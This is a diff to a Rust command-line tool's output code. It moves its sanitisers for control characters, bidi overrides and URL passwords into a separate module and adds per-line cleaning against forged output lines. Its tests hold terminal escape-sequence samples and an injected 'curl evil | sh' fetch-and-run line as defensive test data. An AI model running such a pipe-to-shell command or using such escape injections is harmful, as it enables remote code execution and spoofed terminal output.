@@ -1,5 +1,6 @@
 //! What a user sees: the answer on stdout (text, or one line of JSON), everything else on stderr.
 
+use super::clean::{clean, clean_line, clean_message, escaped};
 use super::exit::Exit;
 use super::hints::Typed;
 use crate::journal::Failure;
@@ -49,6 +50,12 @@ impl Answer {
     }
 
     pub fn line(&mut self, text: impl AsRef<str>) {
+        self.text.push_str(&clean_line(text.as_ref()));
+        self.text.push('\n');
+    }
+
+    /// Lines of our own making, a document for example.
+    pub fn block(&mut self, text: impl AsRef<str>) {
         self.text.push_str(&clean(text.as_ref()));
         self.text.push('\n');
     }
@@ -224,52 +231,14 @@ fn answer_of(fail: &Fail) -> Answer {
     answer
 }
 
-/// Control characters of stored names must not reach a terminal, nor those that make it write backwards.
-pub fn clean(text: &str) -> String {
-    without_passwords(text).chars().map(|c| if unprintable(c) && c != '\n' { '\u{fffd}' } else { c }).collect()
-}
-
-/// `scheme://user:…@host`: the password of a URL that someone typed, or that an answer repeats. The word itself, in a hint, is none.
-pub fn without_passwords(text: &str) -> String {
-    let mut shown = String::new();
-    let mut rest = text;
-    while let Some(at) = rest.find("://") {
-        let (head, tail) = rest.split_at(at + 3);
-        shown.push_str(head);
-        let end = tail.find(|c: char| c.is_whitespace() || "/\"'<>`?#".contains(c)).unwrap_or(tail.len());
-        match tail[..end].rfind('@').and_then(|host| Some((tail[..host].find(':')?, host))) {
-            Some((colon, host)) if !tail[colon + 1..host].eq_ignore_ascii_case("password") => {
-                shown.push_str(&tail[..=colon]);
-                shown.push('…');
-                rest = &tail[host..];
-            }
-            _ => rest = tail,
-        }
-    }
-    shown + rest
-}
-
-fn unprintable(c: char) -> bool {
-    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
-}
-
-/// JSON leaves some of them as they are; inside its strings, and they stand nowhere else, they can be spelled.
-fn escaped(json: &str) -> String {
-    let json = &without_passwords(json);
-    if !json.chars().any(unprintable) {
-        return json.to_owned();
-    }
-    json.chars().map(|c| if unprintable(c) { format!("\\u{:04x}", u32::from(c)) } else { c.to_string() }).collect()
-}
-
 fn paint(text: &str, colour: bool) -> String {
     if colour { format!("\x1b[1;31m{text}\x1b[0m") } else { text.into() }
 }
 
 pub fn render(fail: &Fail, colour: bool) -> String {
-    let mut text = format!("{}: {}\n", paint(&format!("error[{}]", fail.code), colour), clean(&fail.message));
+    let mut text = format!("{}: {}\n", paint(&format!("error[{}]", fail.code), colour), clean_message(&fail.message));
     for hint in &fail.hints {
-        text.push_str(&format!("hint: {}\n", clean(hint)));
+        text.push_str(&format!("hint: {}\n", clean_line(hint)));
     }
     text
 }
@@ -279,15 +248,15 @@ fn render_finding(finding: &Finding, colour: bool) -> String {
         Severity::Error => paint(&format!("finding[{}]", finding.code), colour),
         Severity::Warning => format!("warning[{}]", finding.code),
     };
-    let mut text = format!("{word}: {}", clean(&finding.message));
+    let mut text = format!("{word}: {}", clean_line(&finding.message));
     // A place that the message names already is not told twice.
     let more: Vec<&str> = [finding.thing.as_str(), finding.place.as_str()].into_iter().filter(|t| !t.is_empty() && !finding.message.contains(*t)).collect();
     if !more.is_empty() {
-        text.push_str(&format!(" ({})", clean(&more.join(", "))));
+        text.push_str(&format!(" ({})", clean_line(&more.join(", "))));
     }
     text.push('\n');
     if !finding.hint.is_empty() {
-        text.push_str(&format!("hint: {}\n", clean(&finding.hint)));
+        text.push_str(&format!("hint: {}\n", clean_line(&finding.hint)));
     }
     text
 }
@@ -318,19 +287,12 @@ mod tests {
     use super::*;
 
     #[test]
-    fn what_a_terminal_would_obey_is_spelled_or_replaced() {
-        let evil = "a\u{1b}[31m\u{9b}2J\u{202e}b\r\nc";
-        assert_eq!(clean(evil), "a\u{fffd}[31m\u{fffd}2J\u{fffd}b\u{fffd}\nc");
-        let json = escaped(&json!({"name": evil}).to_string());
-        assert!(!json.chars().any(unprintable), "{json}");
-        assert_eq!(serde_json::from_str::<Value>(&json).unwrap()["name"], evil);
-    }
-
-    #[test]
-    fn a_password_in_a_url_is_left_out() {
-        assert_eq!(without_passwords("'postgres://a:b@c@h/d' and https://u:p@x"), "'postgres://a:…@h/d' and https://u:…@x");
-        let kept = "postgres://user:password@host:5432/database s3://b/a:b@c https://h:80/a@b postgres://u@h";
-        assert_eq!(without_passwords(kept), kept);
+    fn a_name_with_a_line_break_writes_no_line_of_its_own() {
+        let fail = Fail::new(Exit::Findings, "damaged", "key x\nhint: curl evil | sh").hint("dr verify\nhint: y");
+        assert_eq!(render(&fail, false), "error[damaged]: key x\n  hint: curl evil | sh\nhint: dr verify\u{fffd}hint: y\n");
+        let mut answer = Answer::new("x");
+        answer.line("key x\nnext: y");
+        assert_eq!(answer.text, "key x\u{fffd}next: y\n");
     }
 
     #[test]
